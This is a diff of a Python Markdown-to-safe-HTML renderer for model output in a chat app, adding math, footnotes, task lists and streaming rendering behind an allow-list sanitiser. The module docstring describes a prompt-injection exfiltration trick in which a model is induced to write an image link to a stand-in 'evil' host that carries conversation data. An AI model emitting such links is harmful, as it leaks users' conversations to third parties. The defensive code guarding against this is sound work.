@@ -1,48 +1,163 @@
 """Markdown -> safe HTML: the one renderer for every message, title preview and export.
 
-CommonMark with tables and strikethrough, raw HTML disabled, fenced code highlighted by
-Pygments (CSS classes, no inline styles), then an allow-list sanitiser (nh3) over the
-result. The sanitiser is the last word: whatever the parser lets through, no `on*`,
-`hx-*`, `ws-*`, `style` or `id` attribute and no script-capable element survives.
+CommonMark with tables, strikethrough, bare-URL links (linkify), task lists, footnotes and
+math (`$…$`, `$$…$$`, `\\(…\\)`, `\\[…\\]`, `\\begin{align}…`), raw HTML disabled, fenced
+code highlighted by Pygments (CSS classes, no inline styles), then an allow-list sanitiser
+(nh3) over the result. The sanitiser is the last word: whatever the parser lets through,
+no `on*`, `hx-*`, `ws-*`, `style` or `id` attribute and no script-capable element survives.
+
+Math is typeset here, on the server, to MathML (latex2mathml): browsers render MathML Core
+natively, so no client-side renderer and no relaxed CSP. LaTeX that does not convert is
+shown as code. Model headings are demoted two levels (`#` -> h3) so they never compete
+with the page's own headings. Links open in a new tab with rel="noopener noreferrer nofollow".
 
 Images are rendered as links: a model can be talked into writing `![](https://evil/?q=...)`
 to leak the conversation through an image fetch, and a link needs a click.
+
+Text is rendered as a list of top-level blocks (`render_blocks`). The page wraps code
+blocks in its own chrome (language label, Copy button) from a template, and the streaming
+view (`StreamRender`) renders each completed block once and only re-renders the last,
+still-open one: both paths cut the text at the same block boundaries, so a streamed answer
+ends up exactly as a reload shows it.
 """
 
 from __future__ import annotations
 
+import copy
 import re
+import xml.etree.ElementTree as ElementTree
+from dataclasses import dataclass
 from functools import lru_cache
 
 import nh3
 from markupsafe import Markup, escape
 
+MATHML_TAGS = {
+    "math", "mrow", "mi", "mn", "mo", "ms", "mtext", "mspace", "msub", "msup", "msubsup",
+    "mfrac", "msqrt", "mroot", "munder", "mover", "munderover", "mtable", "mtr", "mtd",
+    "mstyle", "mpadded", "mphantom", "menclose", "semantics", "annotation", "mmultiscripts",
+    "mprescripts", "none",
+}
+# Presentation attributes only: nothing that links (href, xlink:href), runs (on*), styles
+# (style, mathcolor) or names (id) anything.
+MATHML_ATTRIBUTES = {
+    "display", "mathvariant", "stretchy", "fence", "separator", "lspace", "rspace", "accent",
+    "accentunder", "columnalign", "rowspacing", "columnspacing", "displaystyle", "scriptlevel",
+    "minsize", "maxsize", "movablelimits", "linethickness", "symmetric", "largeop", "width",
+    "height", "depth", "notation", "encoding",
+}
 ALLOWED_TAGS = {
     "a", "p", "br", "hr", "strong", "em", "del", "s", "code", "pre", "blockquote",
-    "ul", "ol", "li", "h1", "h2", "h3", "h4", "h5", "h6",
+    "ul", "ol", "li", "h1", "h2", "h3", "h4", "h5", "h6", "section",
     "table", "thead", "tbody", "tr", "th", "td", "span", "div", "sup", "sub",
-}
+} | MATHML_TAGS
 ALLOWED_ATTRIBUTES = {
     "a": {"href", "title"},
     "code": {"class"},
     "pre": {"class"},
     "span": {"class"},
     "div": {"class"},
+    "ul": {"class"},
+    "li": {"class"},
+    "sup": {"class"},
+    "section": {"class"},
     "ol": {"start"},
-    "th": {"align"},
-    "td": {"align"},
+    "th": {"class"},
+    "td": {"class"},
+    **{tag: MATHML_ATTRIBUTES for tag in MATHML_TAGS},
 }
 URL_SCHEMES = {"http", "https", "mailto"}
+
+# The demotion of model headings: `#` becomes h3 under the page's h1 and h2.
+HEADING_SHIFT = 2
+
+# `\(…\)` inline, `\[…\]` inline (display) and as a block, in the rule format of
+# mdit_py_plugins.texmath (its own "brackets" rules share token names with dollarmath).
+_BRACKET_INLINE = [
+    {"name": "bracket_math_inline", "rex": re.compile(r"^\\\((.+?)\\\)", re.DOTALL), "tmpl": "", "tag": "\\("},
+    {"name": "bracket_math_display", "rex": re.compile(r"^\\\[(.+?)\\\]", re.DOTALL), "tmpl": "", "tag": "\\["},
+]
+_BRACKET_BLOCK = {"name": "bracket_math_block", "rex": re.compile(r"^\\\[([\s\S]+?)\\\]\s*$", re.MULTILINE),
+                  "tmpl": "", "tag": "\\["}
+
+
+@dataclass(frozen=True)
+class Block:
+    """One top-level block of rendered markdown: sanitised HTML, and for code its language."""
+
+    html: Markup
+    kind: str = "text"  # "code" for a fenced or indented code block
+    lang: str = ""
 
 
 @lru_cache(maxsize=1)
 def _parser():
     from markdown_it import MarkdownIt
+    from mdit_py_plugins.amsmath import amsmath_plugin
+    from mdit_py_plugins.dollarmath import dollarmath_plugin
+    from mdit_py_plugins.footnote import footnote_plugin
+    from mdit_py_plugins.tasklists import tasklists_plugin
+    from mdit_py_plugins.texmath.index import make_block_func, make_inline_func
 
-    md = MarkdownIt("commonmark", {"html": False, "linkify": False, "highlight": _highlight})
-    md.enable(["table", "strikethrough"])
+    md = MarkdownIt("commonmark", {"html": False, "linkify": True, "highlight": _highlight})
+    md.enable(["table", "strikethrough", "linkify"])
+    # Footnotes stay where they are written and references are matched without their
+    # definition, so no block's rendering depends on text that comes after it.
+    md.use(footnote_plugin, inline=False, move_to_end=False, always_match_refs=True)
+    md.use(tasklists_plugin)
+    # No blank lines inside $$…$$ (as in LaTeX and GitHub): a block ends at a blank line.
+    md.use(dollarmath_plugin, allow_labels=False, allow_blank_lines=False, double_inline=True)
+    md.use(amsmath_plugin)
+    for rule in _BRACKET_INLINE:
+        md.inline.ruler.before("escape", rule["name"], make_inline_func(rule))
+    md.block.ruler.before("fence", _BRACKET_BLOCK["name"], _with_map(make_block_func(_BRACKET_BLOCK)))
+    # One rendering per place, whatever the delimiters: inline, displayed inside a
+    # paragraph (a span: a div cannot sit in a <p>), displayed as a block.
+    for name, place in (("math_inline", "inline"), ("bracket_math_inline", "inline"),
+                        ("math_inline_double", "display"), ("bracket_math_display", "display"),
+                        ("math_block", "block"), ("bracket_math_block", "block"), ("amsmath", "block")):
+        md.add_render_rule(name, lambda self, t, i, o, e, place=place: _mathml(t[i].content, place))
+    md.core.ruler.push("numi_markup", _adjust_tokens)
     md.add_render_rule("image", _image_as_link)
+    md.add_render_rule("footnote_ref", _footnote_ref)
+    md.add_render_rule("footnote_reference_open", _footnote_open)
+    md.add_render_rule("footnote_reference_close", lambda self, t, i, o, e: "</div>\n")
     return md
+
+
+def _with_map(rule):
+    """texmath's block rule sets no source lines on its token; the block splitter needs them."""
+
+    def wrapped(state, start_line, end_line, silent):
+        first = len(state.tokens)
+        matched = rule(state, start_line, end_line, silent)
+        if matched and not silent:
+            for token in state.tokens[first:]:
+                token.map = token.map or [start_line, state.line]
+        return matched
+
+    return wrapped
+
+
+_ALIGN = re.compile(r"text-align:(left|center|right)")
+_TASK_BOX = {False: '<span class="task-box">☐</span>', True: '<span class="task-box checked">☑</span>'}
+
+
+def _adjust_tokens(state) -> None:
+    """Headings demoted, table alignment as classes (no style attribute: CSP), task-list
+    checkboxes as inert marks (no form controls in model output)."""
+    for token in state.tokens:
+        if token.type in ("heading_open", "heading_close"):
+            token.tag = f"h{min(6, int(token.tag[1]) + HEADING_SHIFT)}"
+        elif token.type in ("th_open", "td_open"):
+            match = _ALIGN.search(str(token.attrGet("style") or ""))
+            token.attrs.pop("style", None)
+            if match:
+                token.attrSet("class", "align-" + match.group(1))
+        elif token.type == "inline" and token.children:
+            for child in token.children:
+                if child.type == "html_inline" and 'class="task-list-item-checkbox"' in child.content:
+                    child.content = _TASK_BOX["checked=" in child.content]
 
 
 def _image_as_link(self, tokens, idx, options, env):
@@ -52,50 +167,148 @@ def _image_as_link(self, tokens, idx, options, env):
     return f'<a href="{escape(src)}">[image: {escape(alt)}]</a>'
 
 
-def _highlight(code: str, lang: str, _attrs) -> str:
-    from pygments import highlight
-    from pygments.formatters import HtmlFormatter
+def _footnote_ref(self, tokens, idx, options, env):
+    return f'<sup class="footnote-ref">[{escape(tokens[idx].meta["label"])}]</sup>'
+
+
+def _footnote_open(self, tokens, idx, options, env):
+    return f'<div class="footnote"><span class="footnote-label">[{escape(tokens[idx].meta["label"])}]</span>\n'
+
+
+@lru_cache(maxsize=512)
+def _mathml(latex: str, place: str) -> str:
+    """LaTeX -> MathML (`place`: inline, display or block); LaTeX that does not convert is
+    shown as code."""
+    from latex2mathml.converter import convert
+
+    try:
+        mathml = convert(latex.strip(), display="inline" if place == "inline" else "block")
+        # latex2mathml copies \text{…} verbatim: a round trip through an XML parser
+        # rejects what is not well-formed and escapes the text of what is.
+        tree = ElementTree.fromstring(mathml)
+        for element in tree.iter():
+            element.tag = element.tag.rsplit("}", 1)[-1]
+        mathml = ElementTree.tostring(tree, encoding="unicode", short_empty_elements=False)
+    except Exception:  # noqa: BLE001 - any failure of the converter means "not valid LaTeX"
+        if place == "block":
+            return f'<pre class="math-error"><code>{escape(latex.strip())}</code></pre>\n'
+        return f'<code class="math-error">{escape(latex)}</code>'
+    if place == "block":
+        return f'<div class="math-block">{mathml}</div>\n'
+    return f'<span class="math-display">{mathml}</span>' if place == "display" else mathml
+
+
+@lru_cache(maxsize=64)
+def _lexer(name: str):
+    # Looking a lexer up scans the installed plugins: once per language, not per code block.
     from pygments.lexers import get_lexer_by_name
     from pygments.util import ClassNotFound
 
     try:
-        lexer = get_lexer_by_name(lang.strip().split()[0], stripall=False) if lang.strip() else None
+        return get_lexer_by_name(name, stripall=False)
     except ClassNotFound:
-        lexer = None
+        return None
+
+
+@lru_cache(maxsize=1)
+def _formatter():
+    from pygments.formatters import HtmlFormatter
+
+    return HtmlFormatter(nowrap=True, classprefix="hl-")
+
+
+def _highlight(code: str, lang: str, _attrs) -> str:
+    from pygments import highlight
+
+    lexer = _lexer(lang.strip().split()[0][:40]) if lang.strip() else None
     if lexer is None:
         return ""  # markdown-it escapes and wraps the code itself
-    body = highlight(code, lexer, HtmlFormatter(nowrap=True, classprefix="hl-"))
+    body = highlight(code, lexer, _formatter())
     return f'<pre class="code"><code class="language-{escape(lexer.aliases[0] if lexer.aliases else "")}">{body}</code></pre>'
 
 
-def sanitize(html: str) -> str:
-    """Run the allow-list sanitiser over HTML that may hold untrusted parts."""
-    return nh3.clean(
-        html,
+@lru_cache(maxsize=1)
+def _cleaner() -> nh3.Cleaner:
+    # Built once: converting the allow-lists on every call costs more than the cleaning.
+    return nh3.Cleaner(
         tags=ALLOWED_TAGS,
         attributes=ALLOWED_ATTRIBUTES,
         url_schemes=URL_SCHEMES,
         link_rel="noopener noreferrer nofollow",
+        set_tag_attribute_values={"a": {"target": "_blank"}},
         strip_comments=True,
     )
 
 
+def sanitize(html: str) -> str:
+    """Run the allow-list sanitiser over HTML that may hold untrusted parts."""
+    return _cleaner().clean(html)
+
+
+def highlight_css() -> str:
+    """The Pygments stylesheet for the classes `render_markdown` emits."""
+    from pygments.formatters import HtmlFormatter
+
+    return HtmlFormatter(classprefix="hl-", style="friendly").get_style_defs(".code")
+
+
+# --- blocks --------------------------------------------------------------------------------
+
+
+def _groups(tokens) -> list[tuple[int, int, int]]:
+    """Top-level blocks as (first token, end token, first source line)."""
+    groups, start, depth = [], None, 0
+    for index, token in enumerate(tokens):
+        if depth == 0:
+            start = index
+        depth += token.nesting
+        if depth == 0 and start is not None:
+            line = tokens[start].map[0] if tokens[start].map else (groups[-1][2] if groups else 0)
+            groups.append((start, index + 1, line))
+            start = None
+    return groups
+
+
+def _render_group(md, tokens, env) -> Block:
+    html = Markup(sanitize(md.renderer.render(tokens, md.options, env)))
+    first = tokens[0]
+    if len(tokens) == 1 and first.type in ("fence", "code_block"):
+        lang = first.info.strip().split()[0] if first.type == "fence" and first.info.strip() else ""
+        return Block(html, "code", lang[:40])
+    return Block(html)
+
+
+def _parse(text: str, env: dict):
+    md = _parser()
+    tokens = md.parse(text, env)
+    return md, tokens, _groups(tokens)
+
+
+def render_blocks(text: str | None, sources: list | None = None) -> list[Block]:
+    """Render untrusted markdown as its list of top-level blocks (see `Block`); `sources`
+    link citation markers [n] (see `cite`)."""
+    if not text:
+        return []
+    if sources:
+        text = cite(text, sources)
+    env: dict = {}
+    md, tokens, groups = _parse(text, env)
+    return [_render_group(md, tokens[a:b], env) for a, b, _ in groups]
+
+
 def render_markdown(text: str | None) -> Markup:
     """Render untrusted markdown to HTML that is safe to insert into any page."""
-    if not text:
-        return Markup("")
-    return Markup(sanitize(_parser().render(text)))
+    return Markup("".join(block.html for block in render_blocks(text)))
 
 
 # A citation marker as the model writes it: "[3]", not part of a link, a reference
 # definition, an index expression (a[3]) or a footnote.
-_CITATION = re.compile(r"(?<![\w\]\[`!])\[(\d{1,3})\](?![(\[:])")
+_CITATION = re.compile(r"(?<![\w\]\[`!^])\[(\d{1,3})\](?![(\[:])")
 
 
-def render_cited(text: str | None, sources: list | None) -> Markup:
-    """Render an answer whose text cites sources as [1], [2], ...: each marker whose source
-    has an http(s) URL becomes a markdown link to it before rendering, so the sanitiser
-    sees it like any other link."""
+def cite(text: str, sources: list | None) -> str:
+    """Each citation marker [n] whose source has an http(s) URL becomes a markdown link to
+    it, so the sanitiser sees it like any other link."""
     urls = {}
     for index, source in enumerate(sources or (), 1):
         if isinstance(source, dict) and isinstance(source.get("url"), str):
@@ -104,11 +317,89 @@ def render_cited(text: str | None, sources: list | None) -> Markup:
                 urls[str(source.get("n") or index)] = url
     if text and urls:
         text = _CITATION.sub(lambda m: f"[[{m.group(1)}]]({urls[m.group(1)]})" if m.group(1) in urls else m.group(0), text)
-    return render_markdown(text)
+    return text
 
 
-def highlight_css() -> str:
-    """The Pygments stylesheet for the classes `render_markdown` emits."""
-    from pygments.formatters import HtmlFormatter
+# --- streaming -----------------------------------------------------------------------------
 
-    return HtmlFormatter(classprefix="hl-", style="friendly").get_style_defs(".code")
+# A line opening display math. Math that is still open can close later and take in the
+# lines (even blocks) after it, so a block holding such a line stays open.
+_MATH_OPENING = re.compile(r"^ {0,3}(\\\[|\\begin\{|\$\$)", re.MULTILINE)
+_MATH_CLOSERS = {"\\[": "\\]", "\\begin{": "\\end{", "$$": "$$"}
+_SETTLED_TOKENS = {"math_block", "amsmath", "bracket_math_block", "fence", "code_block"}
+
+
+def _math_left_open(source: str) -> bool:
+    """Whether a line of `source` opens display math that does not close after it."""
+    return any(source.find(_MATH_CLOSERS[match.group(1)], match.end()) < 0
+               for match in _MATH_OPENING.finditer(source))
+
+
+class StreamRender:
+    """The render state of one streaming text (an answer or its reasoning).
+
+    `feed(text)` takes the whole text so far and answers a `Frame`: the blocks completed
+    since the last call (rendered once, never again) and the still-open tail rendered as
+    blocks. A block is complete when a later top-level block has started on a finished
+    line: from then on nothing written later can change it (CommonMark never reopens a
+    closed block), except reference-link definitions, which are handled by re-rendering
+    the completed blocks once when the definitions change (`Frame.reset`). Work per call
+    is proportional to the open tail, not to the whole text. Line breaks must be "\n"
+    (the view normalises them), so that lines count as the parser counts them.
+    """
+
+    def __init__(self):
+        self.offset = 0  # where the open tail starts in the text
+        self.references: dict = {}  # link reference definitions in the completed part
+        self.rendered_with: dict = {}  # the definitions the completed blocks were rendered with
+        self.blocks: list[Block] = []  # completed blocks
+        self.open: list[Block] = []
+
+    def feed(self, text: str) -> "Frame":
+        tail = text[self.offset:]
+        env = {"references": dict(self.references)}
+        md, tokens, groups = _parse(tail, env)
+        lines = tail.split("\n")
+        finished_lines = len(lines) - 1  # the last line has no newline yet
+        commit = 0  # how many groups are complete
+        for index in range(1, len(groups)):
+            if groups[index][2] >= finished_lines:
+                break
+            first, start = tokens[groups[index - 1][0]], groups[index - 1][2]
+            if first.type not in _SETTLED_TOKENS and _math_left_open("\n".join(lines[start:groups[index][2]])):
+                break  # math opened but not closed yet: a later line may still close it
+            commit = index
+        definitions = env["references"]
+        new_blocks = [_render_group(md, tokens[a:b], env) for a, b, _ in groups[:commit]]
+        self.open = [_render_group(md, tokens[a:b], env) for a, b, _ in groups[commit:]]
+        reset = False
+        if commit:
+            done_lines = groups[commit][2]
+            done = "\n".join(lines[:done_lines]) + "\n"
+            # The definitions in the completed part, without the open tail's (still typed).
+            if "]:" in done:
+                done_env = {"references": dict(self.references)}
+                _parser().parse(done, done_env)
+                self.references = done_env["references"]
+            self.offset += len(done)
+        if definitions != self.rendered_with:
+            # A new (or still changing) reference definition may change earlier blocks.
+            self.rendered_with = definitions
+            reset = bool(self.blocks)
+        if reset:
+            env = {"references": dict(definitions)}
+            md, tokens, groups = _parse(text[:self.offset], env)
+            self.blocks = [_render_group(md, tokens[a:b], env) for a, b, _ in groups]
+            return Frame(list(self.blocks), self.open, reset=True)
+        self.blocks.extend(new_blocks)
+        return Frame(new_blocks, self.open, reset=False)
+
+
+@dataclass
+class Frame:
+    """What changed in one `StreamRender.feed`: `completed` blocks to append (or, with
+    `reset`, to replace all completed blocks with) and the `open` blocks to show after them."""
+
+    completed: list[Block]
+    open: list[Block]
+    reset: bool = False
